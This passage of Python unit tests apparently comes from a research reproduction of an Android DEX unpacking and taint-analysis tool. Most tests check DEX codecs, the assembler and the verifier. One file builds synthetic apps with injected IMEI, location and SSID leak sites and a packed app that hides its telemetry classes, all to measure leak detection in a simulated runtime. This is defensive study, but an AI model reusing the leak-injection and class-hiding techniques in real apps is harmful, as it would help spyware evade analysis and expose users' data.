        for tag in event.provenance
    }
    assert len(observed) == sample.expected_leaks, (
        f"{sample.name}: declared {sample.expected_leaks}, "
        f"observed {sorted(observed)}"
    )
