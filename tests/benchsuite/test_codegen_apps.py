"""Procedural app generation and app corpora tests."""


from repro.benchsuite import (
    AppProfile,
    add_leak_sites,
    build_aosp_app,
    build_fdroid_app,
    build_market_app,
    generate_app,
)
from repro.dex import assert_valid, read_dex, write_dex
from repro.runtime import AndroidRuntime, AppDriver


class TestGenerateApp:
    def test_deterministic(self):
        a = generate_app("g.det", 2000, seed=5)
        b = generate_app("g.det", 2000, seed=5)
        assert a.instruction_count == b.instruction_count
        assert write_dex(a.apk.primary_dex) == write_dex(b.apk.primary_dex)

    def test_size_close_to_target(self):
        for target in (500, 3000, 12000):
            app = generate_app("g.size", target, seed=2)
            assert 0.8 * target <= app.instruction_count <= 1.35 * target

    def test_generated_dex_is_valid(self):
        app = generate_app("g.valid", 1500, seed=3)
        assert_valid(read_dex(write_dex(app.apk.primary_dex)))

    def test_plain_profile_executes_everything(self):
        app = generate_app("g.run", 1200, seed=4)
        runtime = AndroidRuntime()
        report = AppDriver(runtime, app.apk).launch()
        assert report.launched and not report.crashed

    def test_profile_fractions_reflected_in_inventory(self):
        app = generate_app(
            "g.prof", 5000, seed=5,
            profile=AppProfile(gated=0.4, dead=0.1, crash=0.05, handler=0.05),
        )
        assert app.gated_methods
        assert app.dead_methods
        assert app.crash_methods
        assert app.handler_methods
        assert app.plain_methods

    def test_gated_code_not_reached_by_plain_launch(self):
        from repro.coverage import CoverageCollector

        app = generate_app("g.gate", 3000, seed=6,
                           profile=AppProfile(gated=0.5))
        collector = CoverageCollector()
        runtime = AndroidRuntime()
        runtime.add_listener(collector)
        AppDriver(runtime, app.apk).run_standard_session()
        report = collector.report(app.apk.dex_files)
        assert report.instructions < 0.7  # gated half untouched


class TestLeakSites:
    def test_exact_flow_count(self):
        from repro.analysis import flowdroid

        app = generate_app("g.leak", 1000, seed=7)
        apk = add_leak_sites(app.apk, 5, ("imei", "imei", "location",
                                          "imei", "ssid"))
        result = DexLegoReveal(apk)
        flows = flowdroid().analyze(result).flows
        assert len(flows) == 5

    def test_runtime_leaks_match(self):
        app = generate_app("g.leak2", 800, seed=8)
        apk = add_leak_sites(app.apk, 3, ("imei",))
        runtime = AndroidRuntime()
        AppDriver(runtime, apk).run_standard_session()
        assert len(runtime.observed_leaks()) >= 3


def DexLegoReveal(apk):
    from repro.core import DexLego

    return DexLego().reveal(apk).revealed_apk


class TestCorpora:
    def test_aosp_instruction_counts_near_paper(self):
        app = build_aosp_app("HTMLViewer")
        assert abs(app.instruction_count - 217) <= 120
        app = build_aosp_app("Calculator")
        assert 0.8 * 2507 <= app.instruction_count <= 1.3 * 2507

    def test_fdroid_app_profile(self):
        app = build_fdroid_app("be.ppareit.swiftp")
        assert 0.8 * 8812 <= app.instruction_count <= 1.3 * 8812
        assert app.generated.gated_methods

    def test_market_app_is_packed_and_leaky(self):
        app = build_market_app("com.alex.lookwifipassword")
        assert app.leak_count == 2
        # Packed: original classes hidden behind the shell.
        descriptors = app.packed_apk.primary_dex.class_descriptors()
        assert not any("Telemetry" in d for d in descriptors)
        # Runs and leaks at runtime.
        runtime = AndroidRuntime()
        AppDriver(runtime, app.packed_apk).run_standard_session()
        assert runtime.observed_leaks()
