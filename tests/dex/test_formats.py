"""Instruction format encode/decode tests."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.dex import formats
from repro.errors import DexEncodeError

_OP = 0x42  # arbitrary opcode byte for raw format tests


class TestFixedCases:
    def test_10x(self):
        assert formats.encode("10x", 0x0E, ()) == [0x0E]
        assert formats.decode("10x", [0x0E], 0) == ()

    def test_12x_packs_nibbles(self):
        units = formats.encode("12x", 0x01, (3, 12))
        assert units == [0x01 | (3 << 8) | (12 << 12)]
        assert formats.decode("12x", units, 0) == (3, 12)

    def test_11n_negative_literal(self):
        units = formats.encode("11n", 0x12, (0, -8))
        assert formats.decode("11n", units, 0) == (0, -8)

    def test_21s_sign(self):
        units = formats.encode("21s", 0x13, (5, -32768))
        assert formats.decode("21s", units, 0) == (5, -32768)

    def test_22b_negative_literal(self):
        units = formats.encode("22b", 0xD8, (1, 2, -128))
        assert formats.decode("22b", units, 0) == (1, 2, -128)

    def test_22t_branch_offset(self):
        units = formats.encode("22t", 0x32, (1, 2, -100))
        assert formats.decode("22t", units, 0) == (1, 2, -100)

    def test_30t_wide_branch(self):
        units = formats.encode("30t", 0x2A, (-70000,))
        assert formats.decode("30t", units, 0) == (-70000,)

    def test_31i_full_word(self):
        units = formats.encode("31i", 0x14, (7, -2**31))
        assert formats.decode("31i", units, 0) == (7, -2**31)

    def test_51l_long_literal(self):
        value = -(2**63) + 12345
        units = formats.encode("51l", 0x18, (3, value))
        assert len(units) == 5
        assert formats.decode("51l", units, 0) == (3, value)

    def test_35c_register_list(self):
        units = formats.encode("35c", 0x6E, (0x1234, 1, 2, 3))
        index, *regs = formats.decode("35c", units, 0)
        assert index == 0x1234
        assert regs == [1, 2, 3]

    def test_35c_five_registers(self):
        units = formats.encode("35c", 0x6E, (7, 0, 1, 2, 3, 4))
        assert formats.decode("35c", units, 0) == (7, 0, 1, 2, 3, 4)

    def test_35c_zero_registers(self):
        units = formats.encode("35c", 0x71, (9,))
        assert formats.decode("35c", units, 0) == (9,)

    def test_3rc_range(self):
        units = formats.encode("3rc", 0x74, (0x55, 16, 6))
        assert formats.decode("3rc", units, 0) == (0x55, 16, 6)


class TestRangeChecks:
    def test_12x_register_too_large(self):
        with pytest.raises(DexEncodeError):
            formats.encode("12x", _OP, (16, 0))

    def test_11n_literal_out_of_range(self):
        with pytest.raises(DexEncodeError):
            formats.encode("11n", _OP, (0, 8))

    def test_10t_branch_too_far(self):
        with pytest.raises(DexEncodeError):
            formats.encode("10t", _OP, (200,))

    def test_35c_too_many_registers(self):
        with pytest.raises(DexEncodeError):
            formats.encode("35c", _OP, (0, 1, 2, 3, 4, 5, 6))

    def test_35c_register_above_15(self):
        with pytest.raises(DexEncodeError):
            formats.encode("35c", _OP, (0, 16))

    def test_unknown_format(self):
        with pytest.raises(DexEncodeError):
            formats.encode("99z", _OP, ())


_FORMAT_STRATEGIES = {
    "12x": st.tuples(st.integers(0, 15), st.integers(0, 15)),
    "11n": st.tuples(st.integers(0, 15), st.integers(-8, 7)),
    "11x": st.tuples(st.integers(0, 255)),
    "10t": st.tuples(st.integers(-128, 127)),
    "20t": st.tuples(st.integers(-32768, 32767)),
    "22x": st.tuples(st.integers(0, 255), st.integers(0, 65535)),
    "21t": st.tuples(st.integers(0, 255), st.integers(-32768, 32767)),
    "21s": st.tuples(st.integers(0, 255), st.integers(-32768, 32767)),
    "21c": st.tuples(st.integers(0, 255), st.integers(0, 65535)),
    "23x": st.tuples(*(st.integers(0, 255),) * 3),
    "22b": st.tuples(st.integers(0, 255), st.integers(0, 255),
                     st.integers(-128, 127)),
    "22t": st.tuples(st.integers(0, 15), st.integers(0, 15),
                     st.integers(-32768, 32767)),
    "22s": st.tuples(st.integers(0, 15), st.integers(0, 15),
                     st.integers(-32768, 32767)),
    "22c": st.tuples(st.integers(0, 15), st.integers(0, 15),
                     st.integers(0, 65535)),
    "32x": st.tuples(st.integers(0, 65535), st.integers(0, 65535)),
    "30t": st.tuples(st.integers(-(2**31), 2**31 - 1)),
    "31i": st.tuples(st.integers(0, 255), st.integers(-(2**31), 2**31 - 1)),
    "31t": st.tuples(st.integers(0, 255), st.integers(-(2**31), 2**31 - 1)),
    "31c": st.tuples(st.integers(0, 255), st.integers(0, 2**32 - 1)),
    "3rc": st.tuples(st.integers(0, 65535), st.integers(0, 65535),
                     st.integers(0, 255)),
    "51l": st.tuples(st.integers(0, 255), st.integers(-(2**63), 2**63 - 1)),
}


@pytest.mark.parametrize("fmt", sorted(_FORMAT_STRATEGIES))
def test_roundtrip_property(fmt):
    strategy = _FORMAT_STRATEGIES[fmt]

    @given(strategy)
    def check(operands):
        units = formats.encode(fmt, _OP, tuple(operands))
        assert len(units) == formats.FORMAT_UNITS[fmt]
        assert all(0 <= u <= 0xFFFF for u in units)
        assert formats.decode(fmt, units, 0) == tuple(operands)

    check()
