"""DexFile model tests: interning, references, canonicalization."""

import pytest

from repro.dex import DexBuilder, DexFile, MethodRef, parse_method_signature
from repro.dex.sigs import method_arg_width, parse_field_signature, split_type_list
from repro.errors import AssemblyError


class TestInterning:
    def test_string_interning_is_stable(self):
        dex = DexFile()
        a = dex.intern_string("hello")
        b = dex.intern_string("hello")
        assert a == b
        assert dex.string(a) == "hello"

    def test_type_interning(self):
        dex = DexFile()
        idx = dex.intern_type("Lcom/a/B;")
        assert dex.type_descriptor(idx) == "Lcom/a/B;"
        assert dex.intern_type("Lcom/a/B;") == idx

    def test_method_ref_roundtrip(self):
        dex = DexFile()
        idx = dex.intern_method("Lcom/a/B;", "run", "V", ("I", "J"))
        ref = dex.method_ref(idx)
        assert ref.class_desc == "Lcom/a/B;"
        assert ref.name == "run"
        assert ref.param_descs == ("I", "J")
        assert ref.signature == "Lcom/a/B;->run(IJ)V"

    def test_field_ref_roundtrip(self):
        dex = DexFile()
        idx = dex.intern_field("Lcom/a/B;", "flag", "Z")
        assert dex.field_ref(idx).signature == "Lcom/a/B;->flag:Z"

    def test_proto_sharing(self):
        dex = DexFile()
        a = dex.intern_method("Lcom/a/A;", "x", "I", ("I",))
        b = dex.intern_method("Lcom/a/B;", "y", "I", ("I",))
        assert dex.method_ids[a].proto_idx == dex.method_ids[b].proto_idx


class TestSignatureParsing:
    def test_split_type_list(self):
        assert split_type_list("ILjava/lang/String;[B[[Lcom/x/Y;D") == (
            "I", "Ljava/lang/String;", "[B", "[[Lcom/x/Y;", "D"
        )

    def test_split_empty(self):
        assert split_type_list("") == ()

    def test_split_bad_descriptor(self):
        with pytest.raises(AssemblyError):
            split_type_list("Q")

    def test_dangling_array(self):
        with pytest.raises(AssemblyError):
            split_type_list("[")

    def test_parse_method_signature(self):
        ref = parse_method_signature("Lcom/a/B;->go(ILjava/lang/String;)[B")
        assert ref == MethodRef("Lcom/a/B;", "go", ("I", "Ljava/lang/String;"), "[B")

    def test_parse_method_malformed(self):
        with pytest.raises(AssemblyError):
            parse_method_signature("not a signature")

    def test_parse_field_signature(self):
        ref = parse_field_signature("Lcom/a/B;->count:I")
        assert (ref.class_desc, ref.name, ref.type_desc) == ("Lcom/a/B;", "count", "I")

    def test_shorty(self):
        ref = parse_method_signature("La;->m(J[BLjava/lang/Object;)V")
        assert ref.shorty == "VJLL"

    def test_arg_width_counts_wide(self):
        ref = parse_method_signature("La;->m(JID)V")
        assert method_arg_width(ref, is_static=True) == 5
        assert method_arg_width(ref, is_static=False) == 6


class TestCanonicalize:
    def _build(self) -> DexFile:
        builder = DexBuilder()
        cls = builder.add_class("Lzz/Last;")
        mb = cls.method("zrun", "V", (), locals_count=2)
        mb.const_string(0, "zeta")
        mb.const_string(1, "alpha")
        mb.invoke("static", "Laa/First;->helper(Ljava/lang/String;)V", 0)
        mb.ret_void()
        mb.build()
        cls2 = builder.add_class("Laa/First;")
        mb2 = cls2.method("helper", "V", ("Ljava/lang/String;",),
                          access=0x9, locals_count=1)  # public static
        mb2.ret_void()
        mb2.build()
        return builder.build()

    def test_pools_sorted_after_canonicalize(self):
        dex = self._build()
        dex.canonicalize()
        assert dex.strings == sorted(dex.strings)
        assert dex.type_ids == sorted(dex.type_ids)

    def test_instruction_references_remap(self):
        dex = self._build()
        dex.canonicalize()
        cls = dex.find_class("Lzz/Last;")
        method = cls.all_methods()[0]
        strings = []
        invoked = []
        for _pc, ins in method.code.instructions():
            if ins.name == "const-string":
                strings.append(dex.string(ins.pool_index))
            if ins.opcode.is_invoke:
                invoked.append(dex.method_ref(ins.pool_index).signature)
        assert strings == ["zeta", "alpha"]
        assert invoked == ["Laa/First;->helper(Ljava/lang/String;)V"]

    def test_superclass_ordering(self):
        builder = DexBuilder()
        builder.add_class("La/Child;", superclass="Lz/Parent;")
        builder.add_class("Lz/Parent;")
        dex = builder.build()
        dex.canonicalize()
        names = dex.class_descriptors()
        assert names.index("Lz/Parent;") < names.index("La/Child;")

    def test_canonicalize_idempotent(self):
        dex = self._build()
        dex.canonicalize()
        first = [list(dex.strings), list(dex.type_ids)]
        dex.canonicalize()
        assert [list(dex.strings), list(dex.type_ids)] == first

    def test_total_instruction_count(self):
        dex = self._build()
        assert dex.total_instruction_count() == 5
