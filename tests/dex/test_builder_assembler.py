"""Builder and assembler tests: layout, labels, payloads, errors."""

import pytest

from repro.dex import DexBuilder, assemble, assert_valid, disassemble, write_dex, read_dex
from repro.errors import AssemblyError


class TestBuilderLayout:
    def test_forward_and_backward_branches(self):
        builder = DexBuilder()
        cls = builder.add_class("Lt/B;")
        mb = cls.method("m", "I", ("I",), locals_count=2)
        mb.const(0, 0)
        mb.label("top")
        mb.raw("add-int/lit8", 0, 0, 1)
        mb.if_op("lt", 0, mb.p(1), "top")
        mb.ret(0)
        method = mb.build()
        instructions = method.code.instructions()
        branch = next(ins for _pc, ins in instructions if ins.name == "if-lt")
        pc = next(pc for pc, ins in instructions if ins.name == "if-lt")
        assert pc + branch.branch_target == 1  # back to add-int

    def test_parameter_register_mapping(self):
        builder = DexBuilder()
        cls = builder.add_class("Lt/P;")
        mb = cls.method("m", "V", ("I", "J", "Ljava/lang/Object;"),
                        locals_count=3)
        # this=p0 at 3; I at 4; J at 5/6; L at 7; total registers = 8
        assert mb.p(0) == 3
        assert mb.registers_size == 8
        mb.ret_void()
        assert mb.build().code.ins_size == 5

    def test_static_method_has_no_this(self):
        builder = DexBuilder()
        cls = builder.add_class("Lt/S;")
        mb = cls.method("m", "V", ("I",), access=0x9, locals_count=1)
        mb.ret_void()
        assert mb.build().code.ins_size == 1

    def test_duplicate_label_rejected(self):
        builder = DexBuilder()
        mb = builder.add_class("Lt/D;").method("m", "V", ())
        mb.label("x")
        with pytest.raises(AssemblyError):
            mb.label("x")

    def test_undefined_label_rejected(self):
        builder = DexBuilder()
        mb = builder.add_class("Lt/U;").method("m", "V", ())
        mb.goto_("nowhere")
        mb.ret_void()
        with pytest.raises(AssemblyError):
            mb.build()

    def test_duplicate_class_rejected(self):
        builder = DexBuilder()
        builder.add_class("Lt/C;")
        with pytest.raises(AssemblyError):
            builder.add_class("Lt/C;")

    def test_outs_size_tracks_invokes(self):
        builder = DexBuilder()
        cls = builder.add_class("Lt/O;")
        mb = cls.method("m", "V", (), locals_count=6)
        mb.invoke("static", "Lx/Y;->wide(JJ)V", 0, 1, 2, 3)
        mb.ret_void()
        assert mb.build().code.outs_size == 4

    def test_payload_alignment_is_even(self):
        builder = DexBuilder()
        cls = builder.add_class("Lt/A;")
        mb = cls.method("m", "V", (), locals_count=2)
        mb.const(0, 1)  # 1 unit -> switch lands at odd pc without padding
        mb.packed_switch(0, 0, ["done"])
        mb.label("done")
        mb.ret_void()
        code = mb.build().code
        switch = next(
            (pc, ins) for pc, ins in code.instructions()
            if ins.name == "packed-switch"
        )
        payload_pos = switch[0] + switch[1].branch_target
        assert payload_pos % 2 == 0

    def test_range_invoke_requires_contiguous(self):
        builder = DexBuilder()
        mb = builder.add_class("Lt/R;").method("m", "V", (), locals_count=20)
        with pytest.raises(AssemblyError):
            mb.invoke("virtual", "Lx/Y;->many(IIIIII)V", 1, 2, 4, 5, 6, 7)


class TestAssembler:
    def test_comments_and_blank_lines(self):
        dex = assemble("""
# leading comment
.class public Lt/Cmt;   # trailing comment
.super Ljava/lang/Object;

.method public m()V  # another
    .registers 1
    return-void      # done
.end method
""")
        assert dex.find_class("Lt/Cmt;") is not None

    def test_string_with_escapes_and_hash(self):
        dex = assemble('''
.class public Lt/Esc;
.super Ljava/lang/Object;
.method public m()Ljava/lang/String;
    .registers 2
    const-string v0, "has # hash and \\"quote\\""
    return-object v0
.end method
''')
        assert 'has # hash and "quote"' in dex.strings

    def test_sparse_switch(self):
        dex = assemble("""
.class public Lt/Sw;
.super Ljava/lang/Object;
.method public static pick(I)I
    .registers 2
    sparse-switch p0, :table
    const/4 v0, 0
    return v0
    :a
    const/16 v0, 10
    return v0
    :b
    const/16 v0, 20
    return v0
    :table
    .sparse-switch
        -5 -> :a
        1000 -> :b
    .end sparse-switch
.end method
""")
        assert_valid_roundtrip(dex)

    def test_unknown_instruction(self):
        with pytest.raises(AssemblyError):
            assemble("""
.class public Lt/Bad;
.super Ljava/lang/Object;
.method public m()V
    .registers 1
    frobnicate v0
.end method
""")

    def test_missing_end_method(self):
        with pytest.raises(AssemblyError):
            assemble("""
.class public Lt/Open;
.super Ljava/lang/Object;
.method public m()V
    .registers 1
    return-void
""")

    def test_registers_after_code_rejected(self):
        with pytest.raises(AssemblyError):
            assemble("""
.class public Lt/Late;
.super Ljava/lang/Object;
.method public m()V
    return-void
    .registers 3
.end method
""")

    def test_goto_upgraded_to_16bit(self):
        dex = assemble("""
.class public Lt/Go;
.super Ljava/lang/Object;
.method public m()V
    .registers 1
    goto :end
    :end
    return-void
.end method
""")
        method = dex.find_class("Lt/Go;").all_methods()[0]
        names = [ins.name for _pc, ins in method.code.instructions()]
        assert "goto/16" in names

    def test_multi_unit_accumulation(self):
        builder = DexBuilder()
        assemble(".class public Lt/M1;\n.super Ljava/lang/Object;", builder)
        assemble(".class public Lt/M2;\n.super Ljava/lang/Object;", builder)
        assert len(builder.dex.class_defs) == 2


class TestDisassembler:
    def test_output_reassembles(self):
        source = """
.class public Lt/Round;
.super Landroid/app/Activity;
.field public static LABEL:Ljava/lang/String; = "x"

.method public m(I)I
    .registers 4
    const/4 v0, 0
    if-ge p1, v0, :pos
    neg-int v0, p1
    return v0
    :pos
    return p1
.end method
"""
        dex = assemble(source)
        text = disassemble(dex)
        dex2 = assemble(text)
        # Same classes, same instruction stream shapes.
        m1 = dex.find_class("Lt/Round;").all_methods()[0]
        m2 = dex2.find_class("Lt/Round;").all_methods()[0]
        names1 = [i.name for _pc, i in m1.code.instructions()]
        names2 = [i.name for _pc, i in m2.code.instructions()]
        assert names1 == names2


def assert_valid_roundtrip(dex):
    reread = read_dex(write_dex(dex))
    assert_valid(reread)
    return reread
