"""ULEB128 / SLEB128 codec tests."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.dex.leb128 import (
    decode_sleb128,
    decode_uleb128,
    decode_uleb128p1,
    encode_sleb128,
    encode_uleb128,
    encode_uleb128p1,
)
from repro.errors import DexFormatError


class TestUleb128:
    def test_zero_is_single_byte(self):
        assert encode_uleb128(0) == b"\x00"

    def test_small_values_single_byte(self):
        assert encode_uleb128(127) == b"\x7f"

    def test_128_takes_two_bytes(self):
        assert encode_uleb128(128) == b"\x80\x01"

    def test_known_dex_spec_example(self):
        # From the DEX format spec: 0x4040 encodes as c0 80 01? verify both ways
        value, _ = decode_uleb128(b"\xc0\xbb\x78")
        assert value == ((0x78 << 14) | (0x3B << 7) | 0x40)

    def test_negative_rejected(self):
        with pytest.raises(DexFormatError):
            encode_uleb128(-1)

    def test_truncated_input_rejected(self):
        with pytest.raises(DexFormatError):
            decode_uleb128(b"\x80")

    def test_overlong_rejected(self):
        with pytest.raises(DexFormatError):
            decode_uleb128(b"\x80\x80\x80\x80\x80\x80")

    def test_decode_returns_new_offset(self):
        data = encode_uleb128(300) + b"\xff"
        value, offset = decode_uleb128(data)
        assert value == 300
        assert offset == 2

    @given(st.integers(min_value=0, max_value=2**32 - 1))
    def test_roundtrip(self, value):
        encoded = encode_uleb128(value)
        decoded, offset = decode_uleb128(encoded)
        assert decoded == value
        assert offset == len(encoded)


class TestUleb128P1:
    def test_minus_one_is_zero_byte(self):
        assert encode_uleb128p1(-1) == b"\x00"

    @given(st.integers(min_value=-1, max_value=2**31 - 1))
    def test_roundtrip(self, value):
        decoded, _ = decode_uleb128p1(encode_uleb128p1(value))
        assert decoded == value


class TestSleb128:
    def test_zero(self):
        assert encode_sleb128(0) == b"\x00"

    def test_minus_one_single_byte(self):
        assert encode_sleb128(-1) == b"\x7f"

    def test_sign_extension_on_decode(self):
        value, _ = decode_sleb128(encode_sleb128(-128))
        assert value == -128

    def test_positive_needing_extra_byte(self):
        # 64 has bit 6 set -> needs a second byte to stay positive.
        encoded = encode_sleb128(64)
        assert len(encoded) == 2
        value, _ = decode_sleb128(encoded)
        assert value == 64

    @given(st.integers(min_value=-(2**31), max_value=2**31 - 1))
    def test_roundtrip(self, value):
        decoded, offset = decode_sleb128(encode_sleb128(value))
        assert decoded == value
