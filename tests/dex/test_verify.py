"""Structural verifier negative tests."""

import pytest

from repro.dex import DexBuilder, assemble, verify_dex
from repro.dex.instructions import Instruction
from repro.dex.verify import assert_valid
from repro.errors import VerificationError


def _valid_dex():
    return assemble("""
.class public Lv/Ok;
.super Ljava/lang/Object;
.method public static f(I)I
    .registers 3
    const/4 v0, 1
    add-int v0, v0, p0
    return v0
.end method
""")


class TestAcceptsValid:
    def test_clean_file_has_no_problems(self):
        dex = _valid_dex()
        dex.canonicalize()
        assert verify_dex(dex) == []

    def test_assert_valid_passes(self):
        dex = _valid_dex()
        dex.canonicalize()
        assert_valid(dex)


class TestRejectsBroken:
    def _method(self, dex):
        return dex.class_defs[0].all_methods()[0]

    def test_unsorted_string_pool(self):
        dex = _valid_dex()
        dex.canonicalize()
        if len(dex.strings) >= 2:
            dex.strings[0], dex.strings[1] = dex.strings[1], dex.strings[0]
        problems = verify_dex(dex)
        assert any("string pool" in p for p in problems)

    def test_fall_off_end(self):
        dex = _valid_dex()
        dex.canonicalize()
        method = self._method(dex)
        # Drop the trailing return.
        ret = Instruction.make("return", 0)
        assert method.code.insns[-1:] == ret.encode()
        method.code.insns = method.code.insns[:-1]
        problems = verify_dex(dex)
        assert any("fall off" in p for p in problems)

    def test_branch_to_middle_of_instruction(self):
        builder = DexBuilder()
        cls = builder.add_class("Lv/Mid;")
        mb = cls.method("f", "V", (), locals_count=2)
        mb.const(0, 1000)  # const/16: 2 units
        mb.label("x")
        mb.ret_void()
        mb.build()
        dex = builder.build()
        dex.canonicalize()
        method = self._method(dex)
        # Overwrite the return with a goto into the const/16's second unit.
        goto = Instruction.make("goto", -1)
        method.code.insns[2:3] = goto.encode()
        problems = verify_dex(dex)
        assert any("branch target" in p for p in problems)

    def test_pool_index_out_of_range(self):
        dex = _valid_dex()
        dex.canonicalize()
        method = self._method(dex)
        bad = Instruction.make("const-string", 0, 9999).encode()
        method.code.insns[0:1] = bad + [0]  # keep unit count stable-ish
        # Re-pad: replace first const/4 (1 unit) with const-string (2 units)
        # then drop one trailing unit to keep the return reachable.
        method.code.insns = bad + method.code.insns[3:]
        problems = verify_dex(dex)
        assert any("out of range" in p for p in problems)

    def test_register_out_of_bounds(self):
        builder = DexBuilder()
        cls = builder.add_class("Lv/Reg;")
        mb = cls.method("f", "V", (), locals_count=2)
        mb.raw("move", 0, 1)
        mb.ret_void()
        mb.build()
        dex = builder.build()
        dex.canonicalize()
        method = self._method(dex)
        method.code.registers_size = 1  # v1 now out of bounds
        problems = verify_dex(dex)
        assert any("registers" in p for p in problems)

    def test_misaligned_handler(self):
        dex = assemble("""
.class public Lv/H;
.super Ljava/lang/Object;
.method public static f(I)I
    .registers 3
    :s
    const/16 v0, 7
    div-int v0, v0, p0
    :e
    return v0
    :h
    const/4 v0, -1
    return v0
    .catch Ljava/lang/ArithmeticException; {:s .. :e} :h
.end method
""")
        dex.canonicalize()
        method = dex.class_defs[0].all_methods()[0]
        method.code.tries[0].handlers = [
            (method.code.tries[0].handlers[0][0], 1)  # inside const/16
        ]
        problems = verify_dex(dex)
        assert any("handler" in p for p in problems)

    def test_assert_valid_raises(self):
        dex = _valid_dex()
        dex.canonicalize()
        self._method(dex).code.insns = self._method(dex).code.insns[:-1]
        with pytest.raises(VerificationError):
            assert_valid(dex)

    def test_empty_method_body(self):
        builder = DexBuilder()
        cls = builder.add_class("Lv/E;")
        mb = cls.method("f", "V", (), locals_count=1)
        mb.ret_void()
        mb.build()
        dex = builder.build()
        dex.canonicalize()
        dex.class_defs[0].all_methods()[0].code.insns = []
        problems = verify_dex(dex)
        assert any("empty" in p for p in problems)
