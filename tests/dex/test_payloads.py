"""Switch/array payload tests."""

from hypothesis import given
from hypothesis import strategies as st

from repro.dex.payloads import (
    FillArrayDataPayload,
    PackedSwitchPayload,
    SparseSwitchPayload,
    decode_payload,
    payload_unit_count,
)


class TestPackedSwitch:
    def test_roundtrip(self):
        payload = PackedSwitchPayload(-2, [10, 20, 30])
        units = payload.encode()
        again = PackedSwitchPayload.decode(units, 0)
        assert again.first_key == -2
        assert again.targets == [10, 20, 30]

    def test_lookup_hit_and_miss(self):
        payload = PackedSwitchPayload(5, [100, 200])
        assert payload.lookup(5) == 100
        assert payload.lookup(6) == 200
        assert payload.lookup(7) is None
        assert payload.lookup(4) is None

    def test_unit_count_matches_encoding(self):
        payload = PackedSwitchPayload(0, [1, 2, 3, 4])
        assert len(payload.encode()) == payload.unit_count()

    @given(st.integers(-2**31, 2**31 - 1),
           st.lists(st.integers(-2**31, 2**31 - 1), max_size=20))
    def test_roundtrip_property(self, first_key, targets):
        units = PackedSwitchPayload(first_key, targets).encode()
        again = PackedSwitchPayload.decode(units, 0)
        assert (again.first_key, again.targets) == (first_key, targets)


class TestSparseSwitch:
    def test_roundtrip(self):
        payload = SparseSwitchPayload([-5, 10, 999], [4, 8, 12])
        again = SparseSwitchPayload.decode(payload.encode(), 0)
        assert again.keys == [-5, 10, 999]
        assert again.targets == [4, 8, 12]

    def test_lookup(self):
        payload = SparseSwitchPayload([7, 42], [1, 2])
        assert payload.lookup(42) == 2
        assert payload.lookup(8) is None

    @given(st.lists(st.tuples(st.integers(-2**31, 2**31 - 1),
                              st.integers(-2**31, 2**31 - 1)), max_size=15))
    def test_roundtrip_property(self, pairs):
        keys = [k for k, _ in pairs]
        targets = [t for _, t in pairs]
        again = SparseSwitchPayload.decode(
            SparseSwitchPayload(keys, targets).encode(), 0
        )
        assert (again.keys, again.targets) == (keys, targets)


class TestFillArrayData:
    def test_roundtrip_bytes(self):
        payload = FillArrayDataPayload(1, bytes([1, 2, 3]))
        again = FillArrayDataPayload.decode(payload.encode(), 0)
        assert again.data == bytes([1, 2, 3])
        assert again.element_width == 1

    def test_odd_byte_count_padding(self):
        payload = FillArrayDataPayload(1, bytes([9, 8, 7]))
        units = payload.encode()
        assert len(units) == payload.unit_count()
        again = FillArrayDataPayload.decode(units, 0)
        assert again.data == bytes([9, 8, 7])

    def test_elements_signed(self):
        payload = FillArrayDataPayload(1, bytes([0xFF, 0x01]))
        assert payload.elements(signed=True) == [-1, 1]
        assert payload.elements(signed=False) == [255, 1]

    def test_wide_elements(self):
        values = [1, -1, 2**31 - 1]
        raw = b"".join((v & 0xFFFFFFFF).to_bytes(4, "little") for v in values)
        payload = FillArrayDataPayload(4, raw)
        assert payload.elements() == values

    @given(st.binary(max_size=64))
    def test_roundtrip_property(self, data):
        again = FillArrayDataPayload.decode(
            FillArrayDataPayload(1, data).encode(), 0
        )
        assert again.data == data


class TestDispatch:
    def test_decode_payload_dispatches(self):
        units = PackedSwitchPayload(0, [4]).encode()
        assert isinstance(decode_payload(units, 0), PackedSwitchPayload)
        units = SparseSwitchPayload([1], [2]).encode()
        assert isinstance(decode_payload(units, 0), SparseSwitchPayload)

    def test_payload_unit_count_matches(self):
        for payload in (
            PackedSwitchPayload(1, [2, 3]),
            SparseSwitchPayload([4], [5]),
            FillArrayDataPayload(2, b"abcd"),
        ):
            units = payload.encode()
            assert payload_unit_count(units, 0) == len(units)
