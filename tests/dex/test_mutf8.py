"""MUTF-8 codec tests."""

from hypothesis import given
from hypothesis import strategies as st

from repro.dex.mutf8 import decode_mutf8, encode_mutf8


class TestEncode:
    def test_ascii_passthrough(self):
        assert encode_mutf8("hello") == b"hello"

    def test_nul_is_two_bytes(self):
        assert encode_mutf8("\x00") == b"\xc0\x80"

    def test_encoded_form_never_contains_nul(self):
        text = "a\x00b c"
        assert b"\x00" not in encode_mutf8(text)

    def test_two_byte_sequence(self):
        assert encode_mutf8("é") == "é".encode("utf-8")

    def test_three_byte_sequence(self):
        assert encode_mutf8("中") == "中".encode("utf-8")

    def test_supplementary_uses_surrogate_pair(self):
        encoded = encode_mutf8("\U0001f600")
        # CESU-8: two 3-byte sequences instead of one 4-byte sequence.
        assert len(encoded) == 6
        assert encoded != "\U0001f600".encode("utf-8")


class TestDecode:
    def test_surrogate_pair_recombines(self):
        assert decode_mutf8(encode_mutf8("\U0001f600")) == "\U0001f600"

    def test_empty(self):
        assert decode_mutf8(b"") == ""

    def test_mixed_content(self):
        text = "Lcom/test/Main;->run()V ü 中 \U00010000"
        assert decode_mutf8(encode_mutf8(text)) == text

    @given(st.text(max_size=200))
    def test_roundtrip_any_text(self, text):
        assert decode_mutf8(encode_mutf8(text)) == text

    @given(st.text(alphabet=st.characters(min_codepoint=0x10000,
                                          max_codepoint=0x10FFFF), max_size=20))
    def test_roundtrip_supplementary_planes(self, text):
        assert decode_mutf8(encode_mutf8(text)) == text
