"""Binary DEX writer/reader round-trip tests."""

import pytest

from repro.dex import DexBuilder, assemble, assert_valid, read_dex, write_dex
from repro.dex.checksums import adler32_checksum, sha1_signature
from repro.dex.constants import DEX_MAGIC
from repro.errors import DexFormatError


def _sample_dex():
    text = """
.class public Lcom/rt/Main;
.super Landroid/app/Activity;
.field public static NAME:Ljava/lang/String; = "roundtrip"
.field public static COUNT:I = 42
.field public static RATE:F = 1.5
.field public static BIG:J = 9999999999
.field public counter:I

.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 1
    invoke-virtual {p0, v0}, Lcom/rt/Main;->compute(I)I
    move-result v1
